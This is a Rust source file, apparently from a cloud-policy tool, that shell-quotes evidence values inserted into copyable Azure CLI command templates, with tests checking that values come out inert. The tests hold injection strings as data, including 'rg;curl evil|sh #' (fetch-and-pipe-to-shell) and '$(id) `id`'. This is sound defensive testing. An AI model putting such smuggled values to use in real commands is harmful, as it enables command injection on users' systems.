//! Commands that are meant to be copied: what evidence brings into them is quoted, so that a shell takes it as it is.

use super::filled;
use crate::rules::rule::{Rule, Seen};

/// The command of a template, with its `{words}` filled in; none without a template.
///
/// # Errors
/// Why there is none: a name that no quotation marks keep whole in POSIX shells and PowerShell alike.
pub(super) fn command(template: Option<&str>, seen: &Seen) -> Result<Option<String>, String> {
    let Some(template) = template else { return Ok(None) };
    if template == Rule::COMMANDS_OF_FINDING {
        return Ok(Some(filled(template, seen)));
    }
    let mut command = String::with_capacity(template.len() + 64);
    for word in template.split(' ') {
        if !command.is_empty() {
            command.push(' ');
        }
        if !word.contains('{') {
            command.push_str(word);
            continue;
        }
        let word = filled(word, seen);
        let Some(mark) = mark(&word) else {
            return Err(format!("there is no command to copy: no shell would take `{word}` as it is"));
        };
        command.push_str(mark);
        command.push_str(&word);
        command.push_str(mark);
    }
    Ok(Some(command))
}

/// The quotation mark that a word needs on both sides, or none; nothing where no mark helps.
fn mark(word: &str) -> Option<&'static str> {
    let plain = |letter: char| letter.is_ascii_alphanumeric() || "_./:-+=".contains(letter);
    // The typographic ones are quotation marks to PowerShell as well.
    let breaks = |letter: char| {
        letter.is_control() || letter == '\'' || letter == '"' || ('\u{2018}'..='\u{201e}').contains(&letter)
    };
    if word.chars().any(breaks) || word.starts_with('-') || word.ends_with('\\') {
        return None;
    }
    if word.is_empty() {
        return Some("\"");
    }
    if word.chars().all(plain) {
        return Some("");
    }
    // The command prompt of Windows knows no others.
    Some(if word.chars().all(|letter| plain(letter) || letter == ' ' || letter == '@') { "\"" } else { "'" })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rules::rule::Evidence;
    use greenlight_json::Pointer;
    use proptest::prelude::*;

    fn with(role: &str, group: &str) -> Result<String, String> {
        let evidence = Evidence::new(Pointer::ROOT, "", role.to_owned()).with("group", group);
        let template = "az role assignment create --role {expected} --scope /groups/{group}";
        command(Some(template), &evidence).map(Option::unwrap_or_default)
    }

    #[test]
    fn names_are_quoted_where_they_must_be() {
        for (role, group, command) in [
            ("Reader", "rg-net", "--role Reader --scope /groups/rg-net"),
            ("Network Contributor", "rg-net", "--role \"Network Contributor\" --scope /groups/rg-net"),
            ("Reader", "rg;curl evil|sh #", "--role Reader --scope '/groups/rg;curl evil|sh #'"),
            ("Reader", "$(id) `id` %PATH%", "--role Reader --scope '/groups/$(id) `id` %PATH%'"),
            ("Reader", "Größe", "--role Reader --scope '/groups/Größe'"),
        ] {
            assert_eq!(with(role, group).unwrap(), format!("az role assignment create {command}"));
        }
        for group in ["it's", "a\"b", "line\nfeed", "\u{2019}", "ends\\"] {
            assert!(with("Reader", group).unwrap_err().contains(group));
        }
        assert!(with("--help", "rg-net").is_err());
    }

    /// The words of a line, as a POSIX shell reads them that expands nothing.
    fn words(line: &str) -> Vec<String> {
        let (mut words, mut open) = (vec![String::new()], None);
        for letter in line.chars() {
            match (open, letter) {
                (Some(mark), letter) if mark == letter => open = None,
                (None, '\'' | '"') => open = Some(letter),
                (None, ' ') => words.push(String::new()),
                (Some('"'), '$' | '`' | '\\' | '!')
                | (None, ';' | '|' | '&' | '$' | '`' | '#' | '*' | '?' | '<' | '>' | '(' | ')' | '\\') => {
                    panic!("a shell would read `{letter}` in {line} as its own");
                }
                _ => words.last_mut().unwrap().push(letter),
            }
        }
        assert_eq!(open, None, "{line}");
        words
    }

    proptest! {
        #[test]
        fn a_shell_reads_the_words_that_are_meant(role in any::<String>(), group in any::<String>()) {
            if let Ok(command) = with(&role, &group) {
                let scope = format!("/groups/{group}");
                prop_assert_eq!(words(&command), ["az", "role", "assignment", "create", "--role", &role, "--scope", &scope]);
            }
        }
    }
}
